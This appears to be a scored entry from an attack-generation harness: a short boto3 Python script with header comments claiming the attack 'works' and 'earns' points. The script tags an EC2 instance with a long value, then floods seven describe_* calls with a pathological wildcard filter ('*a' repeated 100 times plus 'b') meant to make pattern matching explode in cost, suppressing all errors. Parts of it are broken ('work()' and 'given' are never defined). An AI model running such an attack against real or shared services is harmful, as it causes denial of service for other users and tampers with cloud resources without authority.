# attack: 27
# does: works, and asks with filters whose asterisks fit in more ways than anybody can try
# run: finished
# earns: 6
# with: work
work()
import boto3

ec2 = boto3.client("ec2")
ids = [one["InstanceId"] for launch in ec2.describe_instances()["Reservations"] for one in launch["Instances"]]
ec2.create_tags(Resources=ids[:1], Tags=[{"Key": given.tag_key, "Value": given.tag_value}, {"Key": "a", "Value": "a" * 250}])
pattern = "*a" * 100 + "b"
for name in ("describe_instances", "describe_tags", "describe_images", "describe_volumes", "describe_instance_types", "describe_security_groups", "describe_subnets"):
    for field in ("tag:a", "tag-value", "value", "name", "instance-type", "group-name"):
        try:
            getattr(ec2, name)(Filters=[{"Name": field, "Values": [pattern]}])
        except Exception:
            pass
